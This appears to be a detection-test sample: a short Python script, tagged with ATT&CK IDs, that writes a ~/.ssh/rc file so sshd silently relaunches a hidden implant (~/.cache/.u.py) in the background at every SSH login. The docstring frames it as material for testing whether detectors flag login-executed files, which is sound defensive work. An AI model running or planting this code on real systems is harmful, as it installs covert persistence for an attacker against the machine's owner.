# technique: T1546 T1098.004
"""Persistence through ~/.ssh/rc (T1546).

Less known than authorized_keys: sshd runs ~/.ssh/rc (via the user's shell)
at every SSH login before the session starts, so an implant can relaunch
itself there. Written with os.open(O_CREAT|O_WRONLY) + os.write; the
directory is created with os.makedirs(mode=0o700).

A good detector raises a high alert: a file executed at login (~/.ssh/rc)
is written.
"""
import os

d = os.path.join(os.path.expanduser("~"), ".ssh"); os.makedirs(d, mode=0o700, exist_ok=True)
fd = os.open(os.path.join(d, "rc"), os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o644)
os.write(fd, b"#!/bin/sh\n(nohup sh -c 'python3 ~/.cache/.u.py' >/dev/null 2>&1 &)\n")
os.close(fd)
